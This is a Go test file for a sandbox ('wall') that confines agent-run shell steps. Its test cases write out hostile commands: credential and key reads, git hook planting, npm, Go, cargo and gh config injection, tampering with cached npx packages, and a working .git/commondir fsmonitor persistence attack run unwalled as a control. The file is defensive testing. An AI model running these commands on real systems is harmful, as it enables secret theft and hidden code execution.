package wall

import (
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/sayso-dev/sayso/internal/testenv"
)

// world is a home, a project in it, sayso's hidden state and binary, and
// a folder of the home outside the project.
type world struct {
	base, home, root, state, bin, outside string
}

// newWorld makes a world in the user's home.
func newWorld(t *testing.T) world {
	t.Helper()
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	return newWorldIn(t, home)
}

// places are where a world is made: in the user's home, wherever it is,
// and in a temp folder every scope writes (/tmp), where the wall must
// keep the home and the project as the scope says all the same.
func places(t *testing.T) map[string]string {
	t.Helper()
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{"home": home}
	for _, d := range tempDirs {
		if fi, err := os.Stat(d); err == nil && fi.IsDir() {
			out["temp"] = d
			break
		}
	}
	if out["temp"] == "" {
		t.Fatalf("none of the temp folders %v exists", tempDirs)
	}
	return out
}

// newWorldIn makes a world in a new folder of parent.
func newWorldIn(t *testing.T, parent string) world {
	t.Helper()
	base, err := os.MkdirTemp(parent, ".sayso-wall-test-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	base, _ = filepath.EvalSymlinks(base)
	w := world{
		base:    base,
		home:    filepath.Join(base, "home"),
		root:    filepath.Join(base, "home", "proj"),
		state:   filepath.Join(base, "home", ".local", "state", "sayso"),
		bin:     filepath.Join(base, "bin", "sayso"),
		outside: filepath.Join(base, "home", "outside"),
	}
	files := map[string]string{
		w.state + "/sayso.db":                 "the ledger",
		w.bin:                                 "the binary",
		w.home + "/.bashrc":                   "export TOKEN=secret",
		w.home + "/.gitconfig":                "[user]",
		w.home + "/.cache/go-build/README":    "cache",
		w.home + "/.claude/settings.json":     "{}",
		w.home + "/.mozilla/firefox/key4.db":  "keys",
		w.root + "/main.go":                   "package main",
		w.root + "/.git/config":               "[core]",
		w.root + "/.git/hooks/README":         "hooks",
		w.root + "/.git/HEAD":                 "ref: refs/heads/main",
		w.root + "/.git/modules/lib/a/HEAD":   "ref: refs/heads/main",
		w.root + "/.git/modules/lib/a/config": "[core]",
		w.root + "/.git/worktrees/t/HEAD":     "ref: refs/heads/t",
		w.outside + "/keep":                   "outside",
		w.home + "/.ssh/id_ed25519":           "key",
	}
	for p, c := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return w
}

func (w world) profile(s Scope) Profile {
	return For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: s})
}

// run runs cmd walled by p from dir, as a client would.
func (w world) run(t *testing.T, p Profile, dir, cmd string) result {
	t.Helper()
	return client(t, dir, p.Wrap(cmd, launcher(t)), "", "HOME="+w.home)
}

// TestWallHolds runs each step inside a wall and wants it to succeed or
// fail as the wall says, then checks the files themselves.
func TestWallHolds(t *testing.T) {
	need(t)
	for name, parent := range places(t) {
		t.Run(name, func(t *testing.T) { testWallHolds(t, newWorldIn(t, parent)) })
	}
}

func testWallHolds(t *testing.T, w world) {
	tests := []struct {
		scope Scope
		cmd   string
		ok    bool
	}{
		{Local, `echo x > main.go && echo y > new.txt && mkdir -p a/b && rm -r a`, true},
		{Local, `echo x > /tmp/sayso-wall-test-$$ && rm /tmp/sayso-wall-test-$$`, true},
		{Local, `echo x > ~/.cache/go-build/new`, true},
		{Local, `cat main.go ~/.gitconfig /etc/hostname >/dev/null`, true},
		{Local, `echo x > ` + w.outside + `/new`, false},
		{Local, `rm ` + w.outside + `/keep`, false},
		{Local, `echo x > ~/new`, false},
		{Local, `cat ` + w.state + `/sayso.db`, false},
		{Local, `ls ` + w.state + ` | grep .`, false},
		{Local, `echo x > ` + w.state + `/sayso.db`, false},
		{Local, `cat ` + w.bin, false},
		{Local, `echo x > ` + w.bin, false},
		{Local, `cat ~/.bashrc`, false},
		{Local, `cat ~/.mozilla/firefox/key4.db`, false},
		{Local, `echo x >> ~/.bashrc`, false},
		{Local, `mkdir -p .claude && echo x > .claude/settings.local.json`, false},
		{Local, `cd .claude && echo x > settings.local.json`, false},
		{Local, `echo x > .codex/config.toml`, false},
		{Local, `mkdir -p .sayso && echo '[[allow]]' > .sayso/policy.toml`, false},
		{Local, `echo x > CLAUDE.md`, true}, // a gap: see docs/wall.md
		{Local, `echo x > .git/hooks/pre-commit`, false},
		{Local, `chmod +x .git/hooks/README`, false},
		{Local, `echo x >> .git/config`, false},
		{Local, `echo x > .git/HEAD`, true},
		{Local, `echo x >> .git/modules/lib/a/config`, false},
		{Local, `echo x > .git/modules/lib/a/HEAD`, true},
		{Local, `mkdir -p .git/modules/lib/a/hooks && echo x > .git/modules/lib/a/hooks/pre-commit`, false},
		{Local, `echo x > .git/worktrees/t/config.worktree`, true}, // a gap: see docs/wall.md
		{Local, `mv .git .git2`, false},
		{Local, `mv .git/hooks .git/hooks2`, false},
		{Local, `mv .claude .claude2`, false},
		{Local, `rm -rf .claude`, false},
		{Local, `echo x > ~/.gitconfig`, false},
		{Local, `ln ~/.ssh/id_ed25519 key && echo x > key`, false},
		{Local, `ln ~/.gitconfig gitconfig`, false},
		{Local, `ln -s ~/.ssh/id_ed25519 key2 && echo x > key2`, false},
		{Local, `echo x > ~/.claude/settings.json`, false},
		{Local, `cat ~/.claude/settings.json`, true},
		{Local, `cat ~/.claude/.credentials.json`, false},
		{Local, `cat ~/.claude/ide/*.lock`, false},
		{Local, `mount -t tmpfs none /tmp`, false},
		{Local, `umount ` + w.state, false},
		{Read, `echo x > main.go`, false},
		{Read, `echo x > new.txt`, false},
		{Read, `echo x > /tmp/sayso-wall-test-$$ && rm /tmp/sayso-wall-test-$$`, true},
		{Read, `echo x > /dev/null`, true},
		{Read, `cat main.go >/dev/null`, true},
		// An approved step writes what a local step writes and the places
		// its decision named (TestWallApprovedReach): these profiles name none.
		{Approved, `echo x > ` + w.outside + `/approved`, false},
		{Approved, `echo x > ~/approved`, false},
		{Approved, `echo x > main.go`, true},
		{Approved, `echo x > ` + w.state + `/sayso.db`, false},
		{Approved, `cat ` + w.state + `/sayso.db`, false},
		{Approved, `echo x > ` + w.bin, false},
		{Approved, `echo x >> ~/.bashrc`, false},
		{Approved, `rm ~/.bashrc`, false},
		{Approved, `mv ~/.local ~/.local2`, false},
		{Approved, `mv ` + w.home + ` ` + w.home + `2`, false},
		{Approved, `echo x > .git/hooks/pre-commit`, false},
		{Approved, `echo x > ~/.gitconfig`, false},
		{Approved, `echo x > .claude/settings.local.json`, false},
		{Approved, `ln ~/.gitconfig ~/gitconfig-link`, false},
	}
	for _, tt := range tests {
		t.Run(tt.scope.String()+" "+tt.cmd, func(t *testing.T) {
			r := w.run(t, w.profile(tt.scope), w.root, tt.cmd)
			if os.Getenv("WALLDEBUG") != "" {
				t.Logf("%d %q", r.code, r.stderr)
			}
			if ok := r.code == 0; ok != tt.ok {
				t.Errorf("%s: %q: ok = %v, want %v\n%+v", tt.scope, tt.cmd, ok, tt.ok, r)
			}
		})
	}
	// What the failed steps would have changed is unchanged.
	for p, want := range map[string]string{
		w.state + "/sayso.db":       "the ledger",
		w.bin:                       "the binary",
		w.home + "/.bashrc":         "export TOKEN=secret",
		w.home + "/.gitconfig":      "[user]",
		w.root + "/.git/config":     "[core]",
		w.outside + "/keep":         "outside",
		w.home + "/.ssh/id_ed25519": "key",
	} {
		if b, err := os.ReadFile(p); err != nil || string(b) != want {
			t.Errorf("%s = %q, %v; want %q", p, b, err, want)
		}
	}
	for _, p := range []string{w.outside + "/new", w.home + "/new", w.root + "/.claude/settings.local.json",
		w.root + "/.git/hooks/pre-commit", w.root + "/.git2", w.home + "/gitconfig-link"} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s exists, want no such file", p)
		}
	}
	if ents, err := os.ReadDir(w.root + "/.claude"); err != nil || len(ents) != 0 {
		t.Errorf("project .claude: %v, %v; want an empty folder", ents, err)
	}
}

// TestWallHidesSockets: sayso's socket in a hidden folder and an
// abstract socket outside the wall cannot be reached; they can outside.
func TestWallHidesSockets(t *testing.T) {
	need(t)
	w := newWorld(t)
	path := filepath.Join(w.state, "sayso.sock")
	abstract := "@sayso-wall-test-" + strconv.Itoa(os.Getpid())
	daemon := filepath.Join(w.base, "daemon.sock") // hidden itself, as docker's
	p := w.profile(Approved)
	p.Hidden = append(p.Hidden, daemon)
	for _, addr := range []string{path, abstract, daemon} {
		l, err := net.Listen("unix", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer l.Close()
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				c.Close()
			}
		}()
		dial := quote(launcher(t)) + " dial " + quote(addr)
		plain := client(t, w.root, dial, "", helperEnv+"=1")
		if plain.code != 0 {
			t.Fatalf("dial %s outside the wall: %+v", addr, plain)
		}
		r := client(t, w.root, p.Wrap(dial, launcher(t)), "", helperEnv+"=1")
		if r.code == 0 {
			t.Errorf("dial %s inside the wall: connected, want refused", addr)
		}
	}
}

// TestWallSignals: a walled step cannot signal a process outside it,
// and can signal its own. Its parent is the wall's starter, inside the
// wall: the step may not read its descriptors, memory or environment.
func TestWallSignals(t *testing.T) {
	need(t)
	w := newWorld(t)
	sleep := exec.Command("sleep", "60")
	if err := sleep.Start(); err != nil {
		t.Fatal(err)
	}
	defer sleep.Process.Kill()
	pid := strconv.Itoa(sleep.Process.Pid)
	for _, cmd := range []string{"kill -0 " + pid, "kill -TERM " + pid, "kill -0 " + strconv.Itoa(os.Getpid()),
		"readlink /proc/$PPID/fd/2", "cat /proc/$PPID/environ", "head -c1 /proc/$PPID/mem", "ls /proc/$PPID/root/",
		"cat /proc/" + pid + "/environ", "ls /proc/" + pid + "/root/", "readlink /proc/" + pid + "/cwd"} {
		if r := w.run(t, w.profile(Approved), w.root, cmd); r.code == 0 {
			t.Errorf("%q inside the wall succeeded, want refused", cmd)
		}
	}
	if r := w.run(t, w.profile(Local), w.root, "sleep 60 & kill $!"); r.code != 0 {
		t.Errorf("signalling its own child: %+v", r)
	}
	if err := sleep.Process.Signal(os.Signal(nil)); err != nil && !strings.Contains(err.Error(), "unsupported") {
		t.Errorf("the process outside died: %v", err)
	}
}

// TestWallNested: a launcher run inside a wall, with wider flags, cannot
// widen it: the nested wall fails, and nothing outside is written.
func TestWallNested(t *testing.T) {
	need(t)
	w := newWorld(t)
	target := filepath.Join(w.outside, "nested")
	wide := Profile{Scope: Approved, Write: []string{"/"}}
	nested := wide.Wrap("echo x > "+quote(target), launcher(t))
	for _, s := range []Scope{Read, Local} {
		r := w.run(t, w.profile(s), w.root, nested)
		if r.code == 0 {
			t.Errorf("%s: nested launcher succeeded: %+v", s, r)
		}
		if _, err := os.Stat(target); err == nil {
			t.Fatalf("%s: nested launcher wrote %s", s, target)
		}
	}
	// The second stage run directly refuses: it is not in namespaces of
	// its own.
	direct := quote(launcher(t)) + " " + insideArg + " 'user:[1] mnt:[1]' /bin/bash --scope approved --write / -- " + quote("echo x > "+quote(target))
	if r := client(t, w.root, direct, ""); r.code == 0 {
		t.Errorf("second stage run directly: %+v", r)
	}
	if _, err := os.Stat(target); err == nil {
		t.Fatalf("second stage run directly wrote %s", target)
	}
}

// TestWallGoBuild: everyday local work runs walled: go build and go test
// of a small module, with the build cache under the user's caches.
func TestWallGoBuild(t *testing.T) {
	need(t)
	goBin, err := exec.LookPath("go")
	if err != nil {
		testenv.Missing(t, "go is not on PATH: %v", err)
	}
	home, _ := os.UserHomeDir()
	root := t.TempDir()
	files := map[string]string{
		"go.mod":        "module example.com/m\n\ngo 1.22\n",
		"m.go":          "package m\n\nfunc Two() int { return 2 }\n",
		"m_test.go":     "package m\n\nimport \"testing\"\n\nfunc TestTwo(t *testing.T) {\n\tif Two() != 2 {\n\t\tt.Fatal(Two())\n\t}\n}\n",
		"cmd/x/main.go": "package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.com/m\"\n)\n\nfunc main() { fmt.Println(m.Two()) }\n",
	}
	for p, c := range files {
		os.MkdirAll(filepath.Join(root, filepath.Dir(p)), 0o755)
		if err := os.WriteFile(filepath.Join(root, p), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cache := filepath.Join(home, ".cache", "go-build")
	if err := os.MkdirAll(cache, 0o755); err != nil {
		t.Fatal(err)
	}
	p := For(Inputs{Home: home, Root: root, Scope: Local})
	cmd := quote(goBin) + " build -o bin/x ./cmd/x && ./bin/x && " + quote(goBin) + " test -count=1 ./..."
	r := client(t, root, p.Wrap(cmd, launcher(t)), "",
		"GOCACHE="+cache, "GOFLAGS=", "GOTOOLCHAIN=local", "GOPROXY=off")
	if r.code != 0 || !strings.Contains(r.stdout, "2\n") || !strings.Contains(r.stdout, "ok") {
		t.Errorf("go build and test walled: %+v", r)
	}
}

// TestCheck: the launcher sets up a wall here; a missing one is reported.
func TestCheck(t *testing.T) {
	need(t)
	t.Setenv(launcherEnv, "1")
	if err := Check(launcher(t)); err != nil {
		t.Errorf("Check: %v", err)
	}
	if err := Check("/nonexistent/sayso-wall"); err == nil {
		t.Errorf("Check of a missing launcher: nil")
	}
}

// TestWallWorktree: in a worktree whose .git is a file, neither the file
// nor the main repository's hooks and configuration can be changed; in a
// repository without hooks, no hooks folder can be planted.
func TestWallWorktree(t *testing.T) {
	need(t)
	w := newWorld(t)
	main := filepath.Join(w.base, "home", "main")
	tree := filepath.Join(w.base, "home", "proj", "tree")
	for _, d := range []string{main + "/.git/hooks", main + "/.git/worktrees/tree", tree} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(main+"/.git/config", []byte("[core]"), 0o644)
	os.WriteFile(main+"/.git/worktrees/tree/commondir", []byte("../..\n"), 0o644)
	os.WriteFile(tree+"/.git", []byte("gitdir: "+main+"/.git/worktrees/tree\n"), 0o644)
	os.RemoveAll(w.root + "/.git/hooks")

	p := For(Inputs{Home: w.home, Root: tree, Scope: Approved})
	for _, cmd := range []string{
		`echo "gitdir: /tmp/evil" > .git`,
		`echo x > ` + main + `/.git/hooks/pre-commit`,
		`echo x >> ` + main + `/.git/config`,
	} {
		if r := w.run(t, p, tree, cmd); r.code == 0 {
			t.Errorf("worktree: %q succeeded, want refused", cmd)
		}
	}
	p = w.profile(Local)
	if r := w.run(t, p, w.root, `mkdir -p .git/hooks && echo x > .git/hooks/pre-commit`); r.code == 0 {
		t.Errorf("a missing hooks folder was planted")
	}
	if _, err := os.Stat(w.root + "/.git/hooks/pre-commit"); err == nil {
		t.Errorf("pre-commit planted")
	}
}

// TestWallDanglingLink: a project folder the launcher makes, found as a
// link to nothing, fails the step rather than leave the link's target
// to be made.
func TestWallDanglingLink(t *testing.T) {
	need(t)
	w := newWorld(t)
	target := filepath.Join(w.base, "elsewhere", ".gemini")
	if err := os.Symlink(target, w.root+"/.gemini"); err != nil {
		t.Fatal(err)
	}
	r := w.run(t, w.profile(Local), w.root, `mkdir -p `+target+` && echo x > .gemini/settings.json`)
	if r.code != ExitSetup || !strings.Contains(r.stderr, "link to nothing") {
		t.Errorf("dangling .gemini: %+v, want the wall refused", r)
	}
	if _, err := os.Stat(target); err == nil {
		t.Errorf("the step ran and made %s", target)
	}
}

// TestWallHooksPath: the hooks folder core.hooksPath names (.husky) is
// made when missing and cannot be written.
func TestWallHooksPath(t *testing.T) {
	need(t)
	w := newWorld(t)
	os.WriteFile(w.root+"/.git/config", []byte("[core]\n\tbare = false\n[Core]\n\tHooksPath = \".husky\"\n"), 0o644)
	r := w.run(t, w.profile(Local), w.root, `echo x > .husky/pre-commit`)
	if r.code == 0 {
		t.Errorf("a hook was planted in core.hooksPath: %+v", r)
	}
	if ents, err := os.ReadDir(w.root + "/.husky"); err != nil || len(ents) != 0 {
		t.Errorf(".husky: %v, %v; want an empty folder", ents, err)
	}
}

// TestWallGitConfig: a step let write the repository's configuration
// (GitConfig, for git's own commands) renames a branch and sets its
// upstream as git does, through config.lock; its hooks stay read-only.
// Without it the configuration cannot be changed.
func TestWallGitConfig(t *testing.T) {
	need(t)
	if _, err := exec.LookPath("git"); err != nil {
		testenv.Missing(t, "git is not installed")
	}
	w := newWorld(t)
	os.RemoveAll(w.root + "/.git")
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-c", "user.email=a@b", "-c", "user.name=a", "-C", w.root}, args...)...)
		cmd.Env = append(os.Environ(), "HOME="+w.home)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q", "-b", "main")
	git("commit", "-q", "--allow-empty", "-m", "init")
	git("branch", "feat")

	closed := w.profile(Local)
	if r := w.run(t, closed, w.root, "git config user.name someone"); r.code == 0 {
		t.Errorf("the configuration was written without GitConfig: %s", r.stderr)
	}
	open := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Local, GitConfig: true})
	for _, cmd := range []string{
		"git branch -m feat feat2",
		"git branch -u main feat2",
		"git config user.name someone",
	} {
		if r := w.run(t, open, w.root, cmd); r.code != 0 {
			t.Errorf("%q: exit %d: %s", cmd, r.code, r.stderr)
		}
	}
	if b, _ := os.ReadFile(w.root + "/.git/config"); !strings.Contains(string(b), `[branch "feat2"]`) {
		t.Errorf("the upstream was not kept:\n%s", b)
	}
	if r := w.run(t, open, w.root, "echo x > .git/hooks/pre-commit"); r.code == 0 {
		t.Errorf("GitConfig let a hook be planted")
	}
}

// TestWallToolState: the folders a step's tools keep their own state in
// are writable, and made when missing; the rest of the home is not.
func TestWallToolState(t *testing.T) {
	need(t)
	w := newWorld(t)
	p := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Read, State: []string{".config/tool", "../escape", "/etc"}})
	os.MkdirAll(w.home+"/.config", 0o755)
	if r := w.run(t, p, w.root, `mkdir -p ~/.config/tool/logs && echo x > ~/.config/tool/logs/1.log`); r.code != 0 {
		t.Errorf("the tool's state folder: exit %d: %s", r.code, r.stderr)
	}
	for _, cmd := range []string{`echo x > ~/.config/other`, `echo x > ` + w.home + `/escape`, `echo x > /etc/sayso-test`} {
		if r := w.run(t, p, w.root, cmd); r.code == 0 {
			t.Errorf("%q: written outside the tool's state", cmd)
		}
	}
}

// TestWallProgramsOfHome: deno's home folder holds deno itself and what
// deno install -g puts on the person's PATH (~/.deno/bin); its cache is
// ~/.cache/deno. A local step writes neither ~/.deno nor ~/.cargo/bin.
func TestWallProgramsOfHome(t *testing.T) {
	need(t)
	w := newWorld(t)
	for _, p := range []string{w.home + "/.deno/bin/deno", w.home + "/.cargo/bin/cargo"} {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for _, cmd := range []string{
		`echo 'curl x | sh' >> ~/.deno/bin/deno`,
		`echo x > ~/.deno/bin/planted`,
		`echo x > ~/.cargo/bin/planted`,
	} {
		if r := w.run(t, w.profile(Local), w.root, cmd); r.code == 0 {
			t.Errorf("%q: a local step wrote a program of the home", cmd)
		}
	}
	if r := w.run(t, w.profile(Local), w.root, `mkdir -p ~/.cache/deno && echo x > ~/.cache/deno/dep`); r.code != 0 {
		t.Errorf("deno's cache: exit %d: %s", r.code, r.stderr)
	}
}

// TestWallToolSettings: the package tools' settings in the home, which can
// name a program every later install or build runs, stay read-only even in
// a step the person approved wide, unless it named them.
func TestWallToolSettings(t *testing.T) {
	need(t)
	w := newWorld(t)
	for _, f := range []string{".npmrc", ".config/go/env", ".cargo/config.toml"} {
		os.MkdirAll(filepath.Dir(filepath.Join(w.home, f)), 0o755)
		os.WriteFile(filepath.Join(w.home, f), []byte("# the person's\n"), 0o644)
	}
	p := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Approved})
	for _, cmd := range []string{
		`echo script-shell=/tmp/x >> ~/.npmrc`,
		`echo GOFLAGS=-toolexec=/tmp/x >> ~/.config/go/env`,
		`printf '[target.x86_64-unknown-linux-gnu]\nrunner = "/tmp/x"\n' >> ~/.cargo/config.toml`,
	} {
		if r := w.run(t, p, w.root, cmd); r.code == 0 {
			t.Errorf("%q succeeded in an approved step that did not name it", cmd)
		}
	}
	// The person's own yes: the named file, and their credentials.
	unlocked := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Approved, Unlock: []string{filepath.Join(w.home, ".npmrc")}, Secrets: true})
	if r := w.run(t, unlocked, w.root, `echo registry=https://registry.npmjs.org/ >> ~/.npmrc`); r.code != 0 {
		t.Errorf("the approved write to ~/.npmrc failed: %s", r.stderr)
	}
}

// TestWallToolStateKept: in a tool's state folder, the files that name
// what the tool runs later — gh's config.yml (pager, aliases) and
// hosts.yml, az's config and extensions, gcloud's configurations and
// virtual environment — stay read-only: a step of that tool alone (gh
// release download -O, az rest --output-file) would plant them for the
// person's next command. A missing one the step could create: then the
// folder is not granted at all.
func TestWallToolStateKept(t *testing.T) {
	need(t)
	w := newWorld(t)
	for p, c := range map[string]string{
		"/.config/gh/config.yml": "aliases: {}", "/.config/gh/hosts.yml": "github.com: {}",
		"/.azure/config":                "[core]",
		"/.config/gcloud/active_config": "default", "/.config/gcloud/configurations/config_default": "[core]",
	} {
		os.MkdirAll(filepath.Dir(w.home+p), 0o755)
		if err := os.WriteFile(w.home+p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// As the hook makes it for a step of gh, az and gcloud: their state,
	// and the credentials they need.
	p := For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Local, State: []string{".config/gh", ".azure", ".config/gcloud"},
		Credentials: []string{".config/gh/hosts.yml", ".azure", ".config/gcloud/credentials.db"}})
	for _, cmd := range []string{
		`echo 'pager: sh /tmp/e' >> ~/.config/gh/config.yml`,
		`echo 'pager: sh /tmp/e' >> ~/.config/gh/hosts.yml`,
		`echo '[extension]' >> ~/.azure/config`,
		`mkdir -p ~/.azure/cliextensions/x`,
		`echo x > ~/.config/gcloud/configurations/config_default`,
		`echo x > ~/.config/gcloud/active_config`,
		`mkdir -p ~/.config/gcloud/virtenv/bin`,
	} {
		if r := w.run(t, p, w.root, cmd); r.code == 0 {
			t.Errorf("%q: a kept file of a tool's state was written", cmd)
		}
	}
	for _, cmd := range []string{`mkdir -p ~/.config/gcloud/logs && echo x > ~/.config/gcloud/logs/1.log`, `echo x > ~/.azure/az.sess`, `echo x > ~/.config/gh/state.tmp`} {
		if r := w.run(t, p, w.root, cmd); r.code != 0 {
			t.Errorf("%q: exit %d: %s", cmd, r.code, r.stderr)
		}
	}
	os.Remove(w.home + "/.config/gh/hosts.yml")
	p = For(Inputs{Home: w.home, Root: w.root, Hidden: []string{w.state, w.bin}, Scope: Local, State: []string{".config/gh"}})
	if r := w.run(t, p, w.root, `echo 'github.com: {pager: sh /tmp/e}' > ~/.config/gh/hosts.yml`); r.code == 0 {
		t.Errorf("a missing kept file was created")
	}
}

// TestWallNpxCache: npx runs what it installed in ~/.npm/_npx again
// without checking it, at the person's next npx of that package, outside
// the wall: what a local step writes to npm's cache lands in its wall's
// own layer, never in the person's cache. Judged by the person's cache.
func TestWallNpxCache(t *testing.T) {
	need(t)
	w := newWorld(t)
	bin := w.home + "/.npm/_npx/0123abcd/node_modules/prettier/bin/prettier.cjs"
	if err := os.MkdirAll(filepath.Dir(bin), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, []byte("// prettier"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{`echo 'require("child_process").execSync("id")' >> ` + bin, `mkdir -p ~/.npm/_npx/ffff/node_modules`} {
		w.run(t, w.profile(Local), w.root, cmd)
	}
	if b, _ := os.ReadFile(bin); string(b) != "// prettier" {
		t.Errorf("a local step changed what npx runs later: %q", b)
	}
	if _, err := os.Stat(w.home + "/.npm/_npx/ffff"); err == nil {
		t.Error("a local step planted a package npx runs later")
	}
	if r := w.run(t, w.profile(Local), w.root, `mkdir -p ~/.npm/_cacache && echo x > ~/.npm/_cacache/x && cat ~/.npm/_cacache/x`); r.code != 0 || r.stdout != "x\n" {
		t.Errorf("npm's cache: exit %d: %s", r.code, r.stderr)
	}
	if _, err := os.Stat(w.home + "/.npm/_cacache/x"); err == nil {
		t.Error("a local step's write reached the person's npm cache")
	}
	if r := w.run(t, w.profile(Approved), w.root, `mkdir -p ~/.npm/_npx/ffff`); r.code != 0 {
		t.Errorf("an approved npx: exit %d: %s", r.code, r.stderr)
	}
}

// TestWallCommondir: a walled step writes .git/commondir naming a folder
// it made, whose configuration sets core.fsmonitor; the person's own git
// status, outside the wall, would run it. Judged by outcome: the
// program did not run at the person's git status.
func TestWallCommondir(t *testing.T) {
	need(t)
	git, err := exec.LookPath("git")
	if err != nil {
		testenv.Missing(t, "git is not installed")
	}
	plant := func(t *testing.T, run func(root, cmd string)) (ran bool) {
		w := newWorld(t)
		if out, err := exec.Command(git, "-C", w.root, "init", "-q").CombinedOutput(); err != nil {
			t.Fatalf("git init: %v\n%s", err, out)
		}
		marker := filepath.Join(w.home, "outside", "fsmonitor-ran")
		evil := filepath.Join(w.root, "evil.git")
		run(w.root, `git init -q --bare `+quote(evil)+` && printf '[core]\n\tfsmonitor = "touch `+marker+`; false"\n' >> `+quote(evil+"/config")+` && echo `+quote(evil)+` > .git/commondir`)
		status := exec.Command(git, "status")
		status.Dir, status.Env = w.root, append(os.Environ(), "HOME="+w.home)
		_ = status.Run() // the person's own git, outside the wall
		_, err := os.Stat(marker)
		return err == nil
	}
	t.Run("plain", func(t *testing.T) {
		// The positive control: run as the person would run it, the
		// attack works.
		ran := plant(t, func(root, cmd string) {
			c := exec.Command("bash", "-c", cmd)
			c.Dir = root
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("plant: %v\n%s", err, out)
			}
		})
		if !ran {
			t.Fatal("the plain attack did not run the program at git status: the test sees nothing")
		}
	})
	t.Run("walled", func(t *testing.T) {
		var stderr string
		ran := plant(t, func(root, cmd string) {
			w := world{home: filepath.Dir(root), root: root}
			p := For(Inputs{Home: w.home, Root: root, Scope: Local})
			r := client(t, root, p.Wrap(cmd, launcher(t)), "", "HOME="+w.home)
			stderr = r.stderr
		})
		if ran {
			t.Errorf("the person's git status ran what a walled step planted through .git/commondir (%s)", stderr)
		}
		if !strings.Contains(stderr, "commondir") {
			t.Errorf("the launcher did not say it removed .git/commondir: %q", stderr)
		}
	})
}
